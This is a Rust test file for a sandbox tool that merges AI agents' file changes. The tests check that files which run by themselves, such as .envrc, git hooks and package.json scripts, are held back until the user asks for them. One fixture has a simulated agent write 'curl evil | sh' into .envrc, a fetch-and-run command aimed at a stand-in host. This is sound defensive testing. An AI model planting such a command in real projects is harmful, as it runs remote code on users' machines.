//! `kapi sandbox`: list, diff, merge, exec and discard, on what launches left.
//!
//! Every merge is checked by the files of the project itself.

use std::fs;

use crate::environment::{Environment, write};
use crate::launch::{launch, launch_on, plain_project};

#[test]
fn a_list_says_what_each_sandbox_is() {
    let env = Environment::new();
    assert_eq!(env.json(&["sandbox", "list"]), serde_json::json!([]));
    launch(&env, "1", "echo 42 > answer.txt", &["--branch", "b"]);
    launch_on(&env, "2", &plain_project(&env), "exit 3", &[]);
    let listed = env.json(&["sandbox", "list"]);
    let brief: Vec<String> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            format!(
                "{} {} {} {} {}",
                one["id"], one["state"], one["mode"], one["changed"], one["branch"]
            )
        })
        .collect();
    let expected = [
        r#""1" "finished" "worktree" 1 "b""#,
        r#""2" "failed" "overlay" 0 null"#,
    ];
    assert_eq!(brief, expected);
    let text = env.kapi(&["sandbox", "list"]);
    assert!(
        text.stdout.contains("finished") && text.stdout.contains("CHANGED"),
        "{text:?}"
    );
}

#[test]
fn a_merge_takes_over_what_was_selected_and_then_the_rest() {
    let env = Environment::new();
    let plain = plain_project(&env);
    let agent = "echo 1 > a.txt; echo new > n.txt; rm -r sub; ln -s a.txt link; mkfifo pipe";
    launch_on(&env, "1", &plain, agent, &[]);
    let diff = env.json(&["diff", "launch/1"]);
    assert!(diff["patch"].as_str().unwrap().contains("+new"), "{diff:#}");
    // What is on one side only is named on both, as git does in a repository.
    for name in ["n.txt", "sub/b.txt"] {
        let header = format!("diff --git a/{name} b/{name}\n");
        assert!(
            diff["patch"].as_str().unwrap().contains(&header),
            "{diff:#}"
        );
    }
    assert_eq!(diff["changed"].as_array().unwrap().len(), 4, "{diff:#}");
    assert!(
        diff["left_out"][0].as_str().unwrap().starts_with("pipe: "),
        "{diff:#}"
    );
    let reported = env.json(&["sandbox", "merge", "1", "--dry-run"]);
    assert_eq!(
        (&reported["applied"], &reported["obstacles"]),
        (&false.into(), &0.into()),
        "{reported:#}"
    );
    assert!(
        plain.join("sub/b.txt").exists(),
        "a dry run changes nothing"
    );
    // A name that was mistyped is not passed over, whatever else is asked for.
    env.kapi(&["sandbox", "merge", "1", "n.txt", "nope", "!none"])
        .assert_error(
            2,
            &[
                "nothing in sandbox 1 matches \"nope\", \"!none\"; nothing was merged",
                "kapi diff launch/1 --stat",
            ],
        );
    let some = env.json(&["sandbox", "merge", "1", "n.txt"]);
    assert_eq!(
        (&some["applied"], &some["not_selected"]),
        (&true.into(), &3.into()),
        "{some:#}"
    );
    assert_eq!(fs::read_to_string(plain.join("n.txt")).unwrap(), "new\n");
    assert_eq!(fs::read_to_string(plain.join("a.txt")).unwrap(), "one\n");
    env.json(&["sandbox", "merge", "1"]);
    assert_eq!(fs::read_to_string(plain.join("a.txt")).unwrap(), "1\n");
    assert!(!plain.join("sub").exists() && !plain.join("pipe").exists());
    assert_eq!(
        fs::read_link(plain.join("link")).unwrap().to_str(),
        Some("a.txt")
    );
}

#[test]
fn a_conflict_is_named_and_nothing_is_overwritten() {
    let env = Environment::new();
    let project = env.repository();
    write(&project.join("long.txt"), "1\n2\n3\n4\n5\n6\n7\n8\n9\n");
    env.commit_all("long");
    let agent = "sed -i s/1/one/ long.txt; echo theirs > answer.txt; echo new > new.txt";
    launch(&env, "1", agent, &[]);
    write(&project.join("long.txt"), "1\n2\n3\n4\n5\n6\n7\n8\nnine\n");
    write(&project.join("answer.txt"), "mine\n");
    let output = env.kapi(&["sandbox", "merge", "1", "--json"]);
    assert_eq!(output.code, 3, "{output:?}");
    let refused = output.document();
    assert_eq!(
        (&refused["applied"], &refused["obstacles"]),
        (&false.into(), &1.into()),
        "{refused:#}"
    );
    assert!(!project.join("new.txt").exists(), "all or nothing");
    let skipped = env.json(&["sandbox", "merge", "1", "--on-conflict", "skip"]);
    assert_eq!(skipped["applied"], true, "{skipped:#}");
    assert_eq!(env.read("answer.txt"), "mine\n");
    assert_eq!(env.read("new.txt"), "new\n");
    assert_eq!(
        env.read("long.txt"),
        "one\n2\n3\n4\n5\n6\n7\n8\nnine\n",
        "both changes are in"
    );
}

#[test]
fn the_work_of_a_branch_is_merged_by_git() {
    let env = Environment::new();
    launch(&env, "1", "echo 42 > answer.txt", &["--branch", "b"]);
    let diff = env.json(&["diff", "launch/1"]);
    assert!(diff["patch"].as_str().unwrap().contains("+42"), "{diff:#}");
    env.kapi(&["sandbox", "merge", "1"])
        .assert_error(3, &["branch b", "git merge b"]);
}

#[test]
fn a_command_in_a_sandbox_sees_its_files_and_what_it_changes_stays() {
    let env = Environment::new();
    launch(&env, "1", "echo made > made.txt", &[]);
    let output = env.kapi(&[
        "sandbox",
        "exec",
        "1",
        "--",
        "sh",
        "-c",
        "cat made.txt; echo more > more.txt; exit 9",
    ]);
    assert_eq!(
        (output.code, output.stdout.as_str()),
        (9, "made\n"),
        "{output:?}"
    );
    let diff = env.json(&["diff", "launch/1", "--stat"]);
    assert_eq!(diff["changed"].as_array().unwrap().len(), 2, "{diff:#}");
    env.kapi(&["sandbox", "exec", "1", "--", "no-such-program"])
        .assert_error(6, &["no-such-program"]);
    env.kapi(&["sandbox", "shell", "1"])
        .assert_error(2, &["needs a terminal", "exec"]);
    // Only looking leaves a committed sandbox committed.
    launch(&env, "2", "echo 42 > answer.txt", &["--branch", "b"]);
    assert_eq!(
        env.kapi(&["sandbox", "exec", "2", "--", "cat", "answer.txt"])
            .stdout,
        "42\n"
    );
    let again = launch(&env, "2", "true", &["--branch", "b"]);
    assert_eq!(again.code, 0, "{again:?}");
}

#[test]
fn a_discard_asks_and_keeps_what_git_can_keep() {
    let env = Environment::new();
    launch(&env, "1", "echo 42 > answer.txt", &["--branch", "b"]);
    env.kapi(&["sandbox", "discard", "1"])
        .assert_error(2, &["needs confirmation", "--yes"]);
    let commit = env.commit_of("b");
    env.git(&["branch", "--quiet", "--delete", "--force", "b"]);
    let gone = env.json(&["sandbox", "discard", "1", "--yes"]);
    let line = gone["kept"][0].as_str().unwrap();
    let words: Vec<&str> = line.split(' ').skip(1).collect();
    env.git(&words);
    assert_eq!(env.commit_of("b"), commit, "{line}");
    assert_eq!(env.json(&["sandbox", "list"]), serde_json::json!([]));
    let left = env.git(&["for-each-ref", "--format=%(refname)", "refs/kapi/launch*"]);
    assert_eq!(left, "");
    env.kapi(&["diff", "launch/1"])
        .assert_error(6, &["no sandbox 1", "list"]);
}

#[test]
fn files_that_run_by_themselves_are_held_back_until_they_are_asked_for() {
    let env = Environment::new();
    let plain = plain_project(&env);
    let manifest = |script: &str| format!("{{\"scripts\": {{\"test\": \"t\", {script}}}}}\n");
    write(&plain.join("package.json"), manifest("\"prepare\": \"p\""));
    write(
        &plain.join("web/package.json"),
        manifest("\"prepare\": \"p\""),
    );
    let agent = "echo new > n.txt; echo 'curl evil | sh' > .envrc; mkdir -p .husky elsewhere; \
                 echo x > .husky/pre-commit; echo x > elsewhere/tasks.json; ln -s elsewhere .vscode; \
                 echo all: > Makefile; echo read > CLAUDE.md; \
                 sed -i s/t/u/ package.json; sed -i 's/: .p./: \"q\"/' web/package.json";
    launch_on(&env, "1", &plain, agent, &[]);
    let held = [".envrc", ".husky/pre-commit", ".vscode", "web/package.json"];
    let diff = env.json(&["diff", "launch/1", "--stat"]);
    let listed = diff["auto_run"].as_array().unwrap().iter();
    let listed: Vec<&str> = listed.map(|one| one["path"].as_str().unwrap()).collect();
    assert_eq!(listed, held, "{diff:#}");
    let reported = env.kapi(&["diff", "launch/1", "--stat"]);
    let line = "runs automatically: .envrc: direnv runs it when a shell enters the directory\n";
    assert!(reported.stderr.contains(line), "{reported:?}");

    let output = env.kapi(&["sandbox", "merge", "1", "--json"]);
    assert_eq!(output.code, 3, "{output:?}");
    let refused = output.document();
    let paths = refused["paths"].as_array().unwrap().iter();
    let kept = paths.filter(|one| one["verdict"] == "held");
    let kept: Vec<&str> = kept.map(|one| one["path"].as_str().unwrap()).collect();
    assert_eq!(kept, held, "{refused:#}");
    assert_eq!(refused["held"], 4, "{refused:#}");
    assert!(!plain.join("n.txt").exists(), "all or nothing");
    let reported = env.kapi(&["sandbox", "merge", "1"]);
    assert!(reported.stderr.contains("--take-auto-run"), "{reported:?}");

    let some = env.json(&["sandbox", "merge", "1", "--on-conflict", "skip"]);
    assert_eq!(
        (&some["applied"], &some["held"]),
        (&true.into(), &4.into()),
        "{some:#}"
    );
    assert!(plain.join("n.txt").exists() && plain.join("Makefile").exists());
    assert!(!plain.join(".envrc").exists() && !plain.join(".vscode").exists());
    let manifest = fs::read_to_string(plain.join("web/package.json")).unwrap();
    assert!(manifest.contains("\"prepare\": \"p\""), "{manifest}");

    // One that is named is held back all the same; naming is not looking.
    let named = env.kapi(&["sandbox", "merge", "1", ".envrc", "--json"]);
    assert_eq!(
        (named.code, &named.document()["held"]),
        (3, &1.into()),
        "{named:?}"
    );
    let all = env.json(&["sandbox", "merge", "1", "--take-auto-run"]);
    assert_eq!(
        (&all["applied"], &all["held"]),
        (&true.into(), &0.into()),
        "{all:#}"
    );
    assert!(plain.join(".envrc").exists() && plain.join(".husky/pre-commit").exists());
}

#[test]
fn what_runs_by_itself_on_a_branch_is_named() {
    let env = Environment::new();
    let agent = "mkdir -p .github/workflows; echo x > .github/workflows/ci.yml; \
                 echo '{\"scripts\": {\"postinstall\": \"x\"}}' > package.json; echo 42 > answer.txt";
    launch(&env, "1", agent, &["--branch", "b"]);
    let diff = env.json(&["diff", "launch/1", "--stat"]);
    let listed = diff["auto_run"].as_array().unwrap().iter();
    let listed: Vec<&str> = listed.map(|one| one["path"].as_str().unwrap()).collect();
    assert_eq!(
        listed,
        [".github/workflows/ci.yml", "package.json"],
        "{diff:#}"
    );
}
